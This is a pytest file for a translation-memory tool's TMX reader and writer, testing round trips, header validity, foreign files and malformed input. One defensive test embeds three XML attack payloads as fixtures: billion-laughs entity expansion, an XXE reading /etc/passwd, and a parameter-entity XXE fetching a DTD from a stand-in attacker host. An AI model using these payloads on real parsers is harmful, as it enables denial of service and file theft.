"""TMX 1.4b: lossless round trips, a well-formed header, and hostile files refused."""

from __future__ import annotations

from pathlib import Path
from xml.etree import ElementTree

import pytest

from concord.tm import TranslationMemory, Unit, open_memory
from concord.tm.tmx import TMXError, read_tmx, write_tmx

XML_LANG = "{http://www.w3.org/XML/1998/namespace}lang"

UNITS = [
    Unit("See `the site <https://example.org/a?x=1&y=2>`_ and [#nikkei]_.",
         "Bkz. `site <https://example.org/a?x=1&y=2>`_ ve [#nikkei]_.", "en", "tr",
         origin="locales/tr/LC_MESSAGES/articles/a.po", context="articles/a",
         created="2026-01-02T03:04:05Z", changed="2026-02-03T04:05:06Z", translator="Ayşe <a@x.org>"),
    Unit('He said "<b>no</b>" & left.\nSecond line with  two spaces ', "Dedi ki \"<b>hayır</b>\" & gitti.\n",
         "en", "tr", origin="compendium.po", context="articles/a|menu",
         created="2026-01-01T00:00:00Z", changed="2026-01-01T00:00:00Z"),
    Unit("Notes", "Примечания", "en", "ru", origin="x.tmx", context="",
         created="2025-12-31T23:59:59Z", changed="2025-12-31T23:59:59Z"),
]


def test_round_trip_through_tmx_loses_nothing(memory: TranslationMemory, tmp_path: Path,
                                              memory_spec: tuple[str, str | None]) -> None:
    memory.add(UNITS)
    path = tmp_path / "out.tmx"
    assert write_tmx(path, memory.units(), source_lang="en") == 3
    assert sorted(read_tmx(path), key=repr) == sorted(UNITS, key=repr)
    again = tmp_path / "again.sqlite"
    with open_memory(str(again)) as copy:
        assert copy.add(read_tmx(path)) == 3
        assert copy.add(read_tmx(path)) == 0, "re-importing the same file adds nothing"
        second = tmp_path / "second.tmx"
        write_tmx(second, copy.units(), source_lang="en")
    assert second.read_bytes() == path.read_bytes(), "same units, same bytes"


def test_export_is_valid_tmx_14b(tmp_path: Path) -> None:
    path = tmp_path / "en-tr.tmx"
    write_tmx(path, UNITS[:2], source_lang="en")
    root = ElementTree.parse(path).getroot()
    assert root.tag == "tmx" and root.get("version") == "1.4"
    header = root.find("header")
    assert header is not None
    for attribute in ("creationtool", "creationtoolversion", "segtype", "o-tmf", "adminlang",
                      "srclang", "datatype"):
        assert header.get(attribute), attribute
    assert header.get("srclang") == "en" and header.get("segtype") == "paragraph"
    tus = root.findall("body/tu")
    assert len(tus) == 2
    for tu in tus:
        assert tu.get("creationdate", "").endswith("Z") and len(tu.get("creationdate", "")) == 16
        assert [tuv.get(XML_LANG) for tuv in tu.findall("tuv")] == ["en", "tr"]
    assert path.stat().st_mode & 0o777 == 0o644, "readable like any file in the repository"
    raw = path.read_text(encoding="utf-8")
    assert "&lt;https://example.org/a?x=1&amp;y=2&gt;`_" in raw, "inline markup escaped, not lost"
    assert "<b>" not in raw


def test_foreign_tmx_with_other_conventions(tmp_path: Path) -> None:
    path = tmp_path / "omegat.tmx"
    path.write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE tmx SYSTEM "tmx14.dtd">\n'
        '<tmx version="1.4"><header creationtool="OmegaT" creationtoolversion="6" segtype="sentence"'
        ' o-tmf="OmegaT" adminlang="EN-US" srclang="EN-US" datatype="plaintext"/><body>'
        '<tu changeid="mehmet" changedate="20240101T120000Z"><tuv lang="EN-US"><seg>Open <bpt i="1">&lt;b&gt;</bpt>file<ept i="1">&lt;/b&gt;</ept></seg></tuv>'
        '<tuv xml:lang="TR"><seg>Dosyayı aç</seg></tuv><tuv xml:lang="DE"><seg>Datei öffnen</seg></tuv></tu>'
        "</body></tmx>\n", encoding="utf-8")
    units = list(read_tmx(path))
    assert [(u.source, u.target_lang, u.target, u.translator, u.changed) for u in units] == [
        ("Open <b>file</b>", "TR", "Dosyayı aç", "mehmet", "2024-01-01T12:00:00Z"),
        ("Open <b>file</b>", "DE", "Datei öffnen", "mehmet", "2024-01-01T12:00:00Z"),
    ]


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE tmx [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<tmx version="1.4"><header srclang="en"/><body><tu><tuv xml:lang="en"><seg>&lol3;</seg></tuv>
<tuv xml:lang="tr"><seg>x</seg></tuv></tu></body></tmx>
"""
XXE = """<?xml version="1.0"?>
<!DOCTYPE tmx [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<tmx version="1.4"><header srclang="en"/><body><tu><tuv xml:lang="en"><seg>&secret;</seg></tuv>
<tuv xml:lang="tr"><seg>x</seg></tuv></tu></body></tmx>
"""
XXE_PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE tmx [ <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote; ]>
<tmx version="1.4"><header srclang="en"/><body/></tmx>
"""


@pytest.mark.parametrize("text", [
    pytest.param(BILLION_LAUGHS, id="billion-laughs"),
    pytest.param(XXE, id="xxe-file"),
    pytest.param(XXE_PARAMETER, id="xxe-parameter-entity"),
])
def test_hostile_tmx_is_refused_and_imports_nothing(memory: TranslationMemory, tmp_path: Path,
                                                    text: str) -> None:
    path = tmp_path / "hostile.tmx"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(TMXError) as caught:
        memory.add(read_tmx(path))
    message = str(caught.value)
    assert message.startswith(f"{path}: error: refused: the file declares or references XML entities")
    assert "Remove the <!DOCTYPE>'s <!ENTITY> declarations" in message
    assert "root:" not in message and memory.stats().units == 0


def test_malformed_tmx_names_file_and_line_and_imports_nothing(memory: TranslationMemory,
                                                               tmp_path: Path) -> None:
    path = tmp_path / "broken.tmx"
    good = "".join(
        f'<tu><tuv xml:lang="en"><seg>Sentence {n}</seg></tuv><tuv xml:lang="tr"><seg>Cümle {n}</seg></tuv></tu>\n'
        for n in range(12000)
    )
    path.write_text(f'<?xml version="1.0"?>\n<tmx version="1.4"><header srclang="en"/><body>\n{good}'
                    '<tu><tuv xml:lang="en"><seg>Unclosed</tuv></tu>\n</body></tmx>\n', encoding="utf-8")
    with pytest.raises(TMXError) as caught:
        memory.add(read_tmx(path))
    assert str(caught.value).startswith(f"{path}:12003: error: not well-formed XML")
    assert "nothing was imported from this file" in str(caught.value)
    assert memory.stats().units == 0, "units read before the error were rolled back"


def test_not_a_tmx_file(tmp_path: Path) -> None:
    path = tmp_path / "x.tmx"
    path.write_text("<html><body/></html>", encoding="utf-8")
    with pytest.raises(TMXError, match="the root element is <html>, not <tmx>"):
        list(read_tmx(path))
